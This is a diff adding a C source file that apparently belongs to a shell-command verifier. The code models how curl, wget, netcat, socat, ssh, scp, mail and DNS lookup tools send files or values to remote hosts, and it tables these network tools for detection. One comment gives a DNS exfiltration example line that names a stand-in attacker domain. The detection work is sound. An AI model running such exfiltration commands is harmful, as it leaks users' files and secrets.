@@ -1,0 +1,345 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+#include "verify/effects.h"
+
+#include <ctype.h>
+#include <string.h>
+
+#include "base/str.h"
+#include "verify/unwrap.h"
+#include "verify/words.h"
+
+/*
+ * What leaves is followed by words, not by the command as a whole: a token in a header of a request is what tokens are
+ * for, the same token in its body or its URL is not.
+ */
+
+static uint32_t add_network(struct walk *walk, uint32_t index, const struct word *target, uint32_t traits)
+{
+	struct operation *command = operations_get(walk->operations, index);
+	uint32_t context = command ? command->context & ~(uint32_t)CONTEXT_WRAPPER : 0;
+	uint32_t network = operations_add(walk->operations, OP_NETWORK, target->span, context);
+	struct operation *operation = operations_get(walk->operations, network);
+
+	if (!operation)
+		return network;
+	operation->parent = index;
+	operation->traits = traits;
+	operations_add_word(walk->operations, network, target);
+	/* What came out of the file or the command that stands in the URL leaves with it. */
+	if (target->origins.count)
+		operations_add_traits(walk->operations, network, TRAIT_SENDS);
+	if (traits & TRAIT_FETCHES)
+		operations_add_flow(walk->operations, network, index);
+	return network;
+}
+
+/* A value that is sent: literally, or what a file has (curl's "@file", "name=@file"). */
+static void send_value(struct walk *walk, const struct command *command, uint32_t index, uint32_t network,
+		       const struct word *value)
+{
+	const char *at = value->text[0] == '@' ? value->text : NULL;
+
+	if (!at && strstr(value->text, "=@"))
+		at = strstr(value->text, "=@") + 1;
+	if (!at && strstr(value->text, "=<"))
+		at = strstr(value->text, "=<") + 1;
+	operations_add_flows(walk->operations, &value->origins, network);
+	operations_add_traits(walk->operations, network, TRAIT_SENDS);
+	if (at && str_equal(at + 1, "-")) {
+		operations_add_flows(walk->operations, &command->input, network);
+	} else if (at) {
+		struct word path = *value;
+
+		path.text = at + 1;
+		path.size = (uint32_t)strlen(path.text);
+		operations_add_flow(walk->operations, effect_on(walk, index, OP_READ, &path, 0), network);
+	}
+}
+
+static void send_file(struct walk *walk, const struct command *command, uint32_t index, uint32_t network,
+		      const struct word *path)
+{
+	operations_add_traits(walk->operations, network, TRAIT_SENDS);
+	if (word_is(path, "-"))
+		operations_add_flows(walk->operations, &command->input, network);
+	else
+		operations_add_flow(walk->operations, effect_on(walk, index, OP_READ, path, 0), network);
+}
+
+/* What an option of curl, wget or httpie does with its value. */
+enum use { SKIPPED, SENT, SENT_FILE, WRITTEN, DIRECTORY, TARGET };
+
+struct transfer_option {
+	const char *name; /* "-d" or "--data" */
+	enum use use;
+};
+
+static const struct transfer_option curl_options[] = {
+	{ "--data", SENT }, { "--data-ascii", SENT }, { "--data-binary", SENT }, { "--data-raw", SENT },
+	{ "--data-urlencode", SENT }, { "--form", SENT }, { "--json", SENT }, { "--output", WRITTEN },
+	{ "--output-dir", DIRECTORY }, { "--upload-file", SENT_FILE }, { "--url", TARGET }, { "-F", SENT },
+	{ "-T", SENT_FILE }, { "-d", SENT }, { "-o", WRITTEN }, { "--url-query", SENT },
+	{ "--header", SKIPPED }, { "--request", SKIPPED }, { "--user", SKIPPED }, { "--user-agent", SKIPPED },
+	{ "--max-time", SKIPPED }, { "--connect-timeout", SKIPPED }, { "--retry", SKIPPED }, { "--cacert", SKIPPED },
+	{ "--cert", SKIPPED }, { "--key", SKIPPED }, { "--write-out", SKIPPED }, { "--cookie", SKIPPED },
+	{ "--resolve", SKIPPED }, { "--proxy", SKIPPED }, { "--referer", SKIPPED }, { "--config", SKIPPED },
+	{ "-H", SKIPPED }, { "-X", SKIPPED }, { "-u", SKIPPED }, { "-A", SKIPPED }, { "-m", SKIPPED },
+	{ "-w", SKIPPED }, { "-b", SKIPPED }, { "-c", SKIPPED }, { "-e", SKIPPED }, { "-x", SKIPPED },
+	{ "-K", SKIPPED }, { "-E", SKIPPED }, { "-C", SKIPPED }, { "-r", SKIPPED }, { "-D", SKIPPED },
+};
+
+static const struct transfer_option wget_options[] = {
+	{ "--body-data", SENT }, { "--body-file", SENT_FILE }, { "--directory-prefix", DIRECTORY },
+	{ "--output-document", WRITTEN }, { "--post-data", SENT }, { "--post-file", SENT_FILE }, { "-O", WRITTEN },
+	{ "-P", DIRECTORY }, { "--header", SKIPPED }, { "--method", SKIPPED }, { "-o", SKIPPED }, { "-t", SKIPPED },
+	{ "-T", SKIPPED }, { "-U", SKIPPED }, { "-w", SKIPPED }, { "-A", SKIPPED }, { "-R", SKIPPED },
+	{ "-D", SKIPPED }, { "-l", SKIPPED }, { "-e", SKIPPED }, { "-a", SKIPPED },
+};
+
+/* The option that a word is, and its value: the rest of the word, or the next one. NULL: none that has a value. */
+static const struct transfer_option *option_at(const struct transfer_option *options, size_t count,
+					       const struct command *command, size_t *at, struct word *ret_value)
+{
+	const struct word *word = &command->words[*at];
+	const char *text = word->text;
+	bool is_long = strncmp(text, "--", 2) == 0;
+
+	for (size_t letter = 1; text[0] == '-' && text[letter]; letter++) {
+		char name[3] = { '-', text[letter], 0 };
+		size_t used = is_long ? strcspn(text, "=") : letter + 1;
+
+		for (size_t i = 0; i < count; i++) {
+			bool is_it = is_long ? strlen(options[i].name) == used && memcmp(options[i].name, text,
+				used) == 0
+					     : str_equal(options[i].name, name);
+
+			if (!is_it)
+				continue;
+			*ret_value = *word;
+			if (text[used]) {
+				used += is_long;
+				ret_value->text += used;
+				ret_value->size -= (uint32_t)used;
+			} else if (*at + 1 < command->count) {
+				*ret_value = command->words[++*at];
+			}
+			return &options[i];
+		}
+		if (is_long)
+			break;
+	}
+	return NULL;
+}
+
+static bool is_target(const struct word *word)
+{
+	return word->text[0] != '-' && word->size;
+}
+
+/* curl, wget: each URL is an operation; what is sent goes to all of them, what is written comes from all. */
+static void add_transfer(struct walk *walk, const struct command *command, uint32_t index,
+			 const struct transfer_option *options, size_t option_count)
+{
+	uint32_t networks[16], kept_traits = TRAIT_FETCHES;
+	bool is_wget = options == wget_options, writes = false;
+	size_t count = 0;
+
+	for (size_t i = 1; i < command->count; i++) {
+		struct word value;
+		const struct transfer_option *option = option_at(options, option_count, command, &i, &value);
+
+		if (option ? option->use == TARGET : is_target(&command->words[i])) {
+			if (count < ARRAY_SIZE(networks))
+				networks[count++] = add_network(walk, index, option ? &value : &command->words[i],
+					kept_traits);
+		}
+	}
+	for (size_t i = 1; i < command->count; i++) {
+		struct word value;
+		const struct transfer_option *option = option_at(options, option_count, command, &i, &value);
+
+		if (!option)
+			continue;
+		for (size_t to = 0; to < count && option->use == SENT; to++)
+			send_value(walk, command, index, networks[to], &value);
+		for (size_t to = 0; to < count && option->use == SENT_FILE; to++)
+			send_file(walk, command, index, networks[to], &value);
+		if (option->use == WRITTEN && !word_is(&value, "-")) {
+			effect_on(walk, index, OP_WRITE, &value, 0);
+			writes = true;
+		}
+	}
+	/* Without a name the file is called as the URL ends. */
+	for (size_t i = 1; i < command->count && !writes &&
+			   (is_wget || option_given(command->words, command->count, 'O', "--remote-name"));
+	     i++) {
+		struct word name = command->words[i];
+		const char *slash = strrchr(name.text, '/');
+
+		if (!is_target(&name) || !slash || !slash[1])
+			continue;
+		name.size -= (uint32_t)(slash + 1 - name.text);
+		name.text = slash + 1;
+		effect_on(walk, index, OP_WRITE, &name, 0);
+	}
+}
+
+static void add_curl(struct walk *walk, const struct command *command, uint32_t index)
+{
+	add_transfer(walk, command, index, curl_options, ARRAY_SIZE(curl_options));
+}
+
+static void add_wget(struct walk *walk, const struct command *command, uint32_t index)
+{
+	add_transfer(walk, command, index, wget_options, ARRAY_SIZE(wget_options));
+}
+
+/* nc, telnet, socat, openssl s_client: a connection both ways; what comes in is sent. */
+static void add_raw(struct walk *walk, const struct command *command, uint32_t index)
+{
+	bool listens = option_given(command->words, command->count, 'l', "--listen");
+	const struct word *host = NULL, *port = NULL;
+	struct word_draft draft;
+	struct word target;
+	uint32_t network;
+
+	for (size_t i = 1; i < command->count; i++) {
+		size_t size = option_size(command->words, command->count, i, "p s w q i e c x X --exec --sh-exec");
+
+		if (size)
+			i += size - 1;
+		else if (!host)
+			host = &command->words[i];
+		else if (!port)
+			port = &command->words[i];
+	}
+	if (!host && !listens)
+		return;
+	word_begin(&draft, walk->operations->arena, host ? host->span : command->span);
+	if (host)
+		word_put_word(&draft, host);
+	if (port) {
+		word_put(&draft, ":", 1);
+		word_put_word(&draft, port);
+	}
+	target = word_end(&draft);
+	network = add_network(walk, index, &target, TRAIT_FETCHES | (listens ? TRAIT_LISTENS : TRAIT_SENDS));
+	operations_add_flows(walk->operations, &command->input, network);
+}
+
+static bool is_remote_path(const char *text)
+{
+	const char *colon = strchr(text, ':'), *slash = strchr(text, '/');
+
+	return strstr(text, "://") || (colon && colon > text && (!slash || colon < slash));
+}
+
+/* scp, rsync, rclone, aws s3 cp, gsutil cp: FROM… TO, either of which is on another machine. */
+static void add_copy(struct walk *walk, const struct command *command, uint32_t index)
+{
+	const struct word *words[64], *to;
+	size_t count = 0;
+
+	for (size_t i = 1; i < command->count && count < ARRAY_SIZE(words); i++) {
+		size_t size = option_size(command->words, command->count, i,
+					  "e i P S F J l o c --exclude --include --rsh --exclude-from --filter");
+
+		if (size)
+			i += size - 1;
+		else if (strpbrk(command->words[i].text, "/:.~") || command->words[i].text[0] == WORD_UNKNOWN ||
+			 i + 1 == command->count || str_equal(program_name(command->words, 1), "scp") ||
+			 str_equal(program_name(command->words, 1), "rsync"))
+			words[count++] = &command->words[i];
+	}
+	if (count < 2)
+		return;
+	to = words[count - 1];
+	if (is_remote_path(to->text)) {
+		uint32_t network = add_network(walk, index, to, TRAIT_SENDS);
+
+		for (size_t i = 0; i + 1 < count; i++)
+			send_file(walk, command, index, network, words[i]);
+		return;
+	}
+	for (size_t i = 0; i + 1 < count; i++) {
+		if (is_remote_path(words[i]->text))
+			add_network(walk, index, words[i], TRAIT_FETCHES);
+		else
+			effect_on(walk, index, OP_READ, words[i], TRAIT_RECURSIVE);
+	}
+	effect_on(walk, index, OP_WRITE, to, 0);
+	if (option_given(command->words, command->count, 0, "--delete"))
+		effect_on(walk, index, OP_REMOVE, to, TRAIT_RECURSIVE);
+}
+
+/* ssh HOST …: what comes in on its standard input goes there. */
+static void add_ssh(struct walk *walk, const struct command *command, uint32_t index)
+{
+	for (size_t i = 1; i < command->count; i++) {
+		size_t size = option_size(command->words, command->count, i,
+			"b B c D E e F I i J L l m O o p Q R S W w");
+		uint32_t network;
+
+		if (size) {
+			i += size - 1;
+			continue;
+		}
+		network = add_network(walk, index, &command->words[i],
+				      TRAIT_FETCHES | (command->input.count ? TRAIT_SENDS : 0));
+		operations_add_flows(walk->operations, &command->input, network);
+		for (size_t rest = i + 1; rest < command->count; rest++)
+			operations_add_flows(walk->operations, &command->words[rest].origins, network);
+		return;
+	}
+}
+
+/* Mail: the text comes in, a file with -a, to an address. */
+static void add_mail(struct walk *walk, const struct command *command, uint32_t index)
+{
+	const struct word *to = command->count > 1 ? &command->words[command->count - 1] : NULL;
+	uint32_t network;
+
+	if (!to)
+		return;
+	network = add_network(walk, index, to, TRAIT_SENDS);
+	operations_add_flows(walk->operations, &command->input, network);
+	for (size_t i = 1; i + 1 < command->count; i++) {
+		if (word_is(&command->words[i], "-a") || word_is(&command->words[i], "-A"))
+			send_file(walk, command, index, network, &command->words[i + 1]);
+	}
+}
+
+/* What a name that is looked up has in it goes to whoever serves the domain: dig $(cat x).evil.test. */
+static void add_lookup(struct walk *walk, const struct command *command, uint32_t index)
+{
+	for (size_t i = 1; i < command->count; i++) {
+		if (is_target(&command->words[i]) && command->words[i].text[0] != '+')
+			add_network(walk, index, &command->words[i], 0);
+	}
+}
+
+static const struct {
+	const char *name;
+	void (*add)(struct walk *walk, const struct command *command, uint32_t index);
+} programs[] = {
+	{ "aria2c", add_wget }, { "aws", add_copy }, { "curl", add_curl }, { "dig", add_lookup }, { "gsutil",
+		add_copy },
+	{ "host", add_lookup }, { "mail", add_mail }, { "mailx", add_mail }, { "mutt", add_mail }, { "nc", add_raw },
+	{ "ncat", add_raw }, { "netcat", add_raw }, { "nslookup", add_lookup }, { "ping", add_lookup },
+	{ "rclone", add_copy }, { "rsync", add_copy }, { "scp", add_copy }, { "sendmail", add_mail }, { "sftp",
+		add_ssh },
+	{ "socat", add_raw }, { "ssh", add_ssh }, { "telnet", add_raw }, { "wget", add_wget },
+};
+
+bool effects_add_network(struct walk *walk, const struct command *command, uint32_t index)
+{
+	const char *name = program_name(command->words, command->count);
+
+	for (size_t i = 0; i < ARRAY_SIZE(programs); i++) {
+		if (str_equal(programs[i].name, name)) {
+			programs[i].add(walk, command, index);
+			return true;
+		}
+	}
+	return false;
+}
